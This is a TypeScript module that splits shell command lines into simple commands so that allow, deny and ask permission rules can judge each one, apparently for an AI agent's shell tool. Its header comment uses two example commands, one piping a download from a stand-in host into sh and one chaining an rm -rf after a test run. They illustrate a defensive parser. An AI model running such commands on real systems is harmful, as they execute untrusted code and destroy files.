/**
 * A shell command as permission rules see it: the simple commands it would
 * run. `npm test && rm -rf build` runs two commands, and a rule allowing the
 * first must not let the second through; `echo $(curl evil.sh | sh)` runs
 * three. This module splits a command line into those parts, respecting
 * quotes, and says where it is not sure.
 *
 * It is a scanner of the POSIX/bash grammar, not a shell: it does not expand
 * variables, aliases or globs. Where a command could do something its words
 * do not show (it writes to a file through a redirection, sets variables that
 * change what runs, or uses a construct the scanner does not model) the part
 * carries a doubt, and allow rules never match a doubtful part. Deny and ask
 * rules look further instead: through `sudo`, `env`, `xargs`, `bash -c`,
 * `eval`, `find -exec` and full paths. That is a speed bump, not a sandbox:
 * what a command does once running is the sandbox's business.
 *
 * @since 0.1.0
 */

/**
 * One simple command of a command line.
 *
 * @since 0.1.0
 * @category models
 */
export interface Part {
  /** The words after quote removal, leading variable assignments excluded. */
  readonly words: ReadonlyArray<string>
  /** The words, quoted again where needed: what a rule naming this command exactly would hold. */
  readonly text: string
  /** Leading `NAME=value` words: they change what the command does. */
  readonly assignments: ReadonlyArray<string>
  /** Why this part cannot be taken at its word (a write through a redirection, a construct not modelled). */
  readonly doubts: ReadonlyArray<string>
  /** A word holds a command substitution, whose commands are parts of their own. */
  readonly substitutes: boolean
}

/**
 * @since 0.1.0
 * @category models
 */
export interface Parsed {
  readonly source: string
  /** Every simple command, those inside subshells and substitutions included. */
  readonly parts: ReadonlyArray<Part>
  /** Syntax the scanner could not follow (an unterminated quote, an unmatched parenthesis). */
  readonly problems: ReadonlyArray<string>
}

/**
 * True when the command line parsed without problems and no part is in
 * doubt: the only case in which allow rules may decide it.
 *
 * @since 0.1.0
 * @category predicates
 */
export const isCertain = (parsed: Parsed): boolean => parsed.problems.length === 0 && parsed.parts.every(isCertainPart)

/**
 * @since 0.1.0
 * @category predicates
 */
export const isCertainPart = (part: Part): boolean =>
  part.doubts.length === 0 && part.assignments.length === 0 && part.words.length > 0

// ---------------------------------------------------------------------------
// quoting
// ---------------------------------------------------------------------------

const plainWord = /^[A-Za-z0-9_\-+=.,:/@%^]+$/

/**
 * Quotes a word so the shell (and {@link parse}) reads it back unchanged.
 *
 * @since 0.1.0
 * @category formatting
 */
export const quote = (word: string): string =>
  plainWord.test(word) && !word.startsWith("=") ? word : `'${word.replace(/'/g, "'\\''")}'`

/**
 * @since 0.1.0
 * @category formatting
 */
export const print = (words: ReadonlyArray<string>): string => words.map(quote).join(" ")

// ---------------------------------------------------------------------------
// scanning
// ---------------------------------------------------------------------------

interface PendingHeredoc {
  readonly delimiter: string
  readonly stripTabs: boolean
  readonly expands: boolean
}

interface State {
  readonly src: string
  pos: number
  readonly parts: Array<Part>
  readonly problems: Array<string>
  heredocs: Array<PendingHeredoc>
  readonly depth: number
}

interface Word {
  value: string
  quoted: boolean
  substitutes: boolean
}

/** Nesting beyond this is not followed; the command is then in doubt. */
const maxDepth = 16

const isBlank = (c: string | undefined) => c === " " || c === "\t" || c === "\r"
const endsWord = (c: string | undefined) =>
  c === undefined || isBlank(c) || c === "\n" || c === ";" || c === "&" || c === "|" || c === "<" || c === ">" ||
  c === "(" || c === ")"

const assignment = /^[A-Za-z_][A-Za-z0-9_]*(?:\[[^\]]*\])?\+?=/

/** Reserved words that only introduce or close a compound command. */
const leadingKeywords = new Set(["!", "{", "if", "then", "else", "elif", "do", "while", "until", "time"])
const closingKeywords = new Set(["}", "fi", "done", "esac"])
/** Constructs whose words are not a command: the part can only be in doubt. */
const constructKeywords = new Set(["for", "select", "case", "function", "coproc"])

const child = (state: State, src: string): State => ({
  src,
  pos: 0,
  parts: state.parts,
  problems: state.problems,
  heredocs: [],
  depth: state.depth + 1
})

/** `$(...)`: the commands inside become parts; the word keeps the text. */
const readCommandSubstitution = (state: State, word: Word) => {
  const start = state.pos
  state.pos += 2
  if (state.depth >= maxDepth) {
    state.problems.push("commands nested too deeply to follow")
    state.pos = state.src.length
  } else {
    sequence({ ...state, depth: state.depth + 1 }, ")", (pos) => (state.pos = pos))
  }
  word.value += state.src.slice(start, state.pos)
  word.substitutes = true
}

/** `` `...` ``: the text between the backquotes, unescaped, is a command line of its own. */
const readBackquote = (state: State, word: Word) => {
  const start = state.pos
  let inner = ""
  state.pos++
  let closed = false
  while (state.pos < state.src.length) {
    const c = state.src[state.pos]!
    if (c === "\\" && state.pos + 1 < state.src.length) {
      const next = state.src[state.pos + 1]!
      inner += next === "`" || next === "\\" || next === "$" ? next : c + next
      state.pos += 2
      continue
    }
    if (c === "`") {
      closed = true
      state.pos++
      break
    }
    inner += c
    state.pos++
  }
  if (!closed) state.problems.push("a backquote is not closed")
  if (state.depth >= maxDepth) state.problems.push("commands nested too deeply to follow")
  else scanCommands(child(state, inner))
  word.value += state.src.slice(start, state.pos)
  word.substitutes = true
}

/**
 * Reads expansions and quotes up to `terminator` in the double-quote
 * context (`"..."`, `${...}`, an expanding heredoc): only `$(...)` and
 * backquotes run commands there.
 */
const readExpanding = (state: State, word: Word, terminator: string | undefined) => {
  let braces = 0
  while (state.pos < state.src.length) {
    const c = state.src[state.pos]!
    if (terminator !== undefined && c === terminator && braces === 0) return true
    if (c === "\\") {
      const next = state.src[state.pos + 1]
      if (next === "\n") state.pos += 2
      else if (next !== undefined && (next === "$" || next === "`" || next === "\"" || next === "\\")) {
        word.value += next
        state.pos += 2
      } else {
        word.value += next === undefined ? c : c + next
        state.pos += next === undefined ? 1 : 2
      }
      continue
    }
    if (c === "$" && state.src[state.pos + 1] === "(") {
      readCommandSubstitution(state, word)
      continue
    }
    if (c === "$" && state.src[state.pos + 1] === "{") {
      word.value += "${"
      state.pos += 2
      if (readExpanding(state, word, "}")) {
        word.value += "}"
        state.pos++
      } else state.problems.push("a ${ is not closed")
      continue
    }
    if (c === "`") {
      readBackquote(state, word)
      continue
    }
    if (terminator === "}" && c === "{") braces++
    if (terminator === "}" && c === "}") braces--
    if (terminator === "}" && (c === "\"" || c === "'")) {
      // Quotes nest inside ${...}.
      state.pos++
      if (c === "'") readSingle(state, word)
      else if (readExpanding(state, word, "\"")) state.pos++
      else state.problems.push("a double quote is not closed")
      continue
    }
    word.value += c
    state.pos++
  }
  return false
}

const readSingle = (state: State, word: Word) => {
  const end = state.src.indexOf("'", state.pos)
  if (end < 0) {
    state.problems.push("a single quote is not closed")
    word.value += state.src.slice(state.pos)
    state.pos = state.src.length
    return
  }
  word.value += state.src.slice(state.pos, end)
  state.pos = end + 1
}

const ansiEscapes: Record<string, string> = { n: "\n", t: "\t", r: "\r", "\\": "\\", "'": "'", "\"": "\"", e: "\u001b" }

/** `$'...'`: backslash escapes, no expansion. */
const readAnsiC = (state: State, word: Word) => {
  state.pos += 2
  while (state.pos < state.src.length) {
    const c = state.src[state.pos]!
    if (c === "'") {
      state.pos++
      return
    }
    if (c === "\\" && state.pos + 1 < state.src.length) {
      const next = state.src[state.pos + 1]!
      word.value += ansiEscapes[next] ?? `\\${next}`
      state.pos += 2
      continue
    }
    word.value += c
    state.pos++
  }
  state.problems.push("a $' quote is not closed")
}

const readWord = (state: State): Word => {
  const word: Word = { value: "", quoted: false, substitutes: false }
  while (state.pos < state.src.length) {
    const c = state.src[state.pos]!
    if (endsWord(c)) break
    if (c === "\\") {
      const next = state.src[state.pos + 1]
      if (next === "\n") state.pos += 2
      else {
        word.value += next ?? ""
        word.quoted = true
        state.pos += next === undefined ? 1 : 2
      }
      continue
    }
    if (c === "'") {
      word.quoted = true
      state.pos++
      readSingle(state, word)
      continue
    }
    if (c === "\"") {
      word.quoted = true
      state.pos++
      if (readExpanding(state, word, "\"")) state.pos++
      else state.problems.push("a double quote is not closed")
      continue
    }
    if (c === "`") {
      readBackquote(state, word)
      continue
    }
    if (c === "$") {
      const next = state.src[state.pos + 1]
      if (next === "(") {
        readCommandSubstitution(state, word)
        continue
      }
      if (next === "{") {
        word.value += "${"
        state.pos += 2
        if (readExpanding(state, word, "}")) {
          word.value += "}"
          state.pos++
        } else state.problems.push("a ${ is not closed")
        continue
      }
      if (next === "'") {
        word.quoted = true
        readAnsiC(state, word)
        continue
      }
    }
    word.value += c
    state.pos++
  }
  return word
}

/** Consumes the bodies of the heredocs announced on the line just ended. */
const readHeredocs = (state: State) => {
  const pending = state.heredocs
  state.heredocs = []
  for (const heredoc of pending) {
    let body = ""
    let closed = false
    while (state.pos < state.src.length) {
      const end = state.src.indexOf("\n", state.pos)
      const line = state.src.slice(state.pos, end < 0 ? state.src.length : end)
      state.pos = end < 0 ? state.src.length : end + 1
      if ((heredoc.stripTabs ? line.replace(/^\t+/, "") : line) === heredoc.delimiter) {
        closed = true
        break
      }
      body += line + "\n"
    }
    if (!closed) state.problems.push(`the heredoc ${heredoc.delimiter} is not closed`)
    // An unquoted delimiter makes the body expand: substitutions in it run.
    if (heredoc.expands) readExpanding(child(state, body), { value: "", quoted: false, substitutes: false }, undefined)
  }
}

const redirectionOperators = ["<<<", "<<-", "&>>", "<<", ">>", ">|", "<>", "<&", ">&", "&>", "<", ">"] as const

/** Targets that do not make a redirection a write worth doubting. */
const harmlessTarget = (target: string) => target === "/dev/null" || /^(?:\d+|-)$/.test(target)

interface Building {
  words: Array<string>
  assignments: Array<string>
  doubts: Array<string>
  substitutes: boolean
}

const emptyBuilding = (): Building => ({ words: [], assignments: [], doubts: [], substitutes: false })

const flush = (state: State, building: Building): Building => {
  if (building.words.length > 0 || building.assignments.length > 0) {
    const doubts = building.words.length === 0
      ? [...building.doubts, "it only assigns variables, which changes what later commands do"]
      : building.doubts
    state.parts.push({
      words: building.words,
      text: print(building.words),
      assignments: building.assignments,
      doubts,
      substitutes: building.substitutes
    })
  }
  return emptyBuilding()
}

const readRedirection = (state: State, building: Building, operator: string) => {
  if (state.src[state.pos + 1] === "(" && (operator === "<" || operator === ">")) {
    // `<(...)` and `>(...)`: process substitution, an argument that runs commands.
    const word: Word = { value: "", quoted: false, substitutes: true }
    readCommandSubstitution(state, word)
    building.words.push(word.value)
    building.substitutes = true
    return
  }
  state.pos += operator.length
  while (isBlank(state.src[state.pos])) state.pos++
  const target = readWord(state)
  if (target.substitutes) building.substitutes = true
  if (target.value === "" && !target.quoted) {
    state.problems.push(`a ${operator} redirection has no target`)
    return
  }
  if (operator === "<<" || operator === "<<-") {
    state.heredocs.push({ delimiter: target.value, stripTabs: operator === "<<-", expands: !target.quoted })
    return
  }
  if (operator === "<" || operator === "<<<" || operator === "<&") return
  if (!harmlessTarget(target.value)) building.doubts.push(`it writes to ${target.value}`)
}

/**
 * Scans a command list until the end of the text or, when `close` is `)`, the
 * parenthesis that closes it; `onEnd` learns where scanning stopped.
 */
const sequence = (state: State, close: ")" | undefined, onEnd: (pos: number) => void) => {
  let building = emptyBuilding()
  const src = state.src
  while (state.pos < src.length) {
    const c = src[state.pos]!
    if (isBlank(c)) {
      state.pos++
      continue
    }
    if (c === "\\" && src[state.pos + 1] === "\n") {
      state.pos += 2
      continue
    }
    if (c === "#") {
      const end = src.indexOf("\n", state.pos)
      state.pos = end < 0 ? src.length : end
      continue
    }
    if (c === "\n") {
      building = flush(state, building)
      state.pos++
      readHeredocs(state)
      continue
    }
    if (c === ")") {
      building = flush(state, building)
      state.pos++
      if (close === ")") {
        onEnd(state.pos)
        return
      }
      state.problems.push("a closing parenthesis has no opening one")
      continue
    }
    if (c === "(") {
      if (building.words.length === 0 && building.assignments.length === 0) {
        // A subshell, or `((...))` arithmetic: either way its commands are parts.
        building = flush(state, building)
        state.pos++
        if (state.depth >= maxDepth) {
          state.problems.push("commands nested too deeply to follow")
          state.pos = src.length
        } else {
          sequence({ ...state, depth: state.depth + 1 }, ")", (pos) => (state.pos = pos))
        }
        continue
      }
      const definition = /^\(\s*\)/.exec(src.slice(state.pos))
      if (definition !== null) {
        // `f() { body; }`: the body's commands are parts of their own.
        building.doubts.push("it defines a function")
        building = flush(state, building)
        state.pos += definition[0].length
        continue
      }
      state.problems.push("an opening parenthesis where none belongs")
      state.pos++
      continue
    }
    const redirection = redirectionOperators.find((op) => src.startsWith(op, state.pos))
    if (redirection !== undefined && (c === "<" || c === ">" || redirection.startsWith("&>"))) {
      readRedirection(state, building, redirection)
      continue
    }
    if (c === ";" || c === "&" || c === "|") {
      // `&&`, `||`, `|&`, `;;`, `;&`, `;;&`, `;`, `&`, `|`: all end the simple command.
      building = flush(state, building)
      state.pos++
      while (src[state.pos] === ";" || src[state.pos] === "&" || src[state.pos] === "|") state.pos++
      continue
    }
    const start = state.pos
    const word = readWord(state)
    if (state.pos === start) {
      // Nothing consumed: a character the scanner does not handle; never loop on it.
      state.problems.push(`an unexpected ${JSON.stringify(c)}`)
      state.pos++
      continue
    }
    if (word.substitutes) building.substitutes = true
    const next = src[state.pos]
    if (!word.quoted && /^\d+$/.test(word.value) && (next === "<" || next === ">")) {
      // `2>file`: the digits name a descriptor, they are not an argument.
      continue
    }
    if (!word.quoted && word.value === "{" && building.words[0] === "function") {
      // `function f { body; }`: likewise.
      building = flush(state, building)
      continue
    }
    const atStart = building.words.length === 0
    if (atStart && !word.quoted && assignment.test(word.value)) {
      building.assignments.push(word.value)
      continue
    }
    if (atStart && building.assignments.length === 0 && !word.quoted) {
      if (leadingKeywords.has(word.value)) continue
      if (closingKeywords.has(word.value)) continue
      if (constructKeywords.has(word.value)) building.doubts.push(`${word.value} is a construct, not a command`)
    }
    building.words.push(word.value)
  }
  flush(state, building)
  if (state.heredocs.length > 0) {
    state.problems.push(`the heredoc ${state.heredocs[0]!.delimiter} has no body`)
    state.heredocs = []
  }
  if (close === ")") state.problems.push("an opening parenthesis is not closed")
  onEnd(state.pos)
}

const scanCommands = (state: State) => sequence(state, undefined, () => {})

/**
 * Splits a command line into the simple commands it runs.
 *
 * @since 0.1.0
 * @category parsing
 */
export const parse = (source: string): Parsed => {
  const state: State = { src: source, pos: 0, parts: [], problems: [], heredocs: [], depth: 0 }
  scanCommands(state)
  return { source, parts: state.parts, problems: state.problems }
}

// ---------------------------------------------------------------------------
// what restrictive rules look at
// ---------------------------------------------------------------------------

interface Wrapper {
  /** Options that take the next word as their value. */
  readonly withValue: ReadonlySet<string>
  /** Positional words before the wrapped command (`timeout 5 cmd`). */
  readonly positional: number
  /** Skips `NAME=value` words too (`env`). */
  readonly assignments: boolean
}

const wrapper = (withValue: ReadonlyArray<string> = [], positional = 0, assignments = false): Wrapper => ({
  withValue: new Set(withValue),
  positional,
  assignments
})

/** Commands that run the command named by their remaining words. */
const wrappers: ReadonlyMap<string, Wrapper> = new Map([
  ["sudo", wrapper(["-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "--user", "--group"])],
  ["doas", wrapper(["-u", "-C"])],
  ["command", wrapper()],
  ["builtin", wrapper()],
  ["exec", wrapper(["-a"])],
  ["nohup", wrapper()],
  ["time", wrapper()],
  ["nice", wrapper(["-n", "--adjustment"])],
  ["ionice", wrapper(["-c", "-n", "-p", "--class", "--classdata"])],
  ["env", wrapper(["-u", "-C", "-S", "--unset", "--chdir", "--split-string"], 0, true)],
  ["timeout", wrapper(["-s", "-k", "--signal", "--kill-after"], 1)],
  ["stdbuf", wrapper(["-i", "-o", "-e"])],
  ["xargs", wrapper(["-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a", "--max-args", "--max-procs", "--delimiter"])],
  ["watch", wrapper(["-n", "-d", "--interval"])],
  ["chrt", wrapper([], 1)],
  ["taskset", wrapper([], 1)],
  ["unbuffer", wrapper()],
  ["caffeinate", wrapper()]
])

const shells = new Set(["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish"])

const basename = (word: string) => word.slice(word.lastIndexOf("/") + 1)

const unwrap = (words: ReadonlyArray<string>): ReadonlyArray<string> | undefined => {
  const spec = wrappers.get(basename(words[0] ?? ""))
  if (spec === undefined) return undefined
  let i = 1
  while (i < words.length) {
    const word = words[i]!
    if (word === "--") {
      i++
      break
    }
    if (word.startsWith("-") && word.length > 1) {
      i += spec.withValue.has(word) ? 2 : 1
      continue
    }
    if (spec.assignments && assignment.test(word)) {
      i++
      continue
    }
    break
  }
  i += spec.positional
  return i < words.length ? words.slice(i) : undefined
}

/** The command a shell runs with `-c`, if any. */
const shellScript = (words: ReadonlyArray<string>): string | undefined => {
  if (!shells.has(basename(words[0] ?? ""))) return undefined
  for (let i = 1; i < words.length; i++) {
    const word = words[i]!
    if (!word.startsWith("-")) return undefined
    if (/^-[A-Za-z]*c[A-Za-z]*$/.test(word)) return words[i + 1]
  }
  return undefined
}

const execArguments = new Set(["-exec", "-execdir", "-ok", "-okdir"])

/** `find ... -exec cmd args ;`: the commands find runs. */
const findCommands = (words: ReadonlyArray<string>): ReadonlyArray<ReadonlyArray<string>> => {
  if (basename(words[0] ?? "") !== "find") return []
  const found: Array<ReadonlyArray<string>> = []
  for (let i = 1; i < words.length; i++) {
    if (!execArguments.has(words[i]!)) continue
    const end = words.findIndex((w, j) => j > i && (w === ";" || w === "+"))
    found.push(words.slice(i + 1, end < 0 ? words.length : end))
  }
  return found
}

/**
 * Every word list a restrictive (deny or ask) rule should be checked
 * against for this part: the command as written, without wrappers such as
 * `sudo` or `env`, by the base name of a full path, and the commands run by
 * `bash -c`, `eval` and `find -exec`. Over-matching here only means a
 * denial or a question too many; under-matching lets a denied command run.
 *
 * @since 0.1.0
 * @category matching
 */
export const views = (part: Part): ReadonlyArray<ReadonlyArray<string>> => {
  const seen = new Set<string>()
  const out: Array<ReadonlyArray<string>> = []
  const visit = (words: ReadonlyArray<string>, depth: number) => {
    if (words.length === 0 || depth > 4) return
    const key = JSON.stringify(words)
    if (seen.has(key)) return
    seen.add(key)
    out.push(words)
    if (words[0]!.includes("/")) visit([basename(words[0]!), ...words.slice(1)], depth + 1)
    const inner = unwrap(words)
    if (inner !== undefined) visit(inner, depth + 1)
    const script = shellScript(words)
    const evaluated = basename(words[0]!) === "eval" ? words.slice(1).join(" ") : undefined
    for (const text of [script, evaluated]) {
      if (text === undefined) continue
      for (const nested of parse(text).parts) visit(nested.words, depth + 1)
    }
    for (const command of findCommands(words)) visit(command, depth + 1)
  }
  visit(part.words, 0)
  return out
}
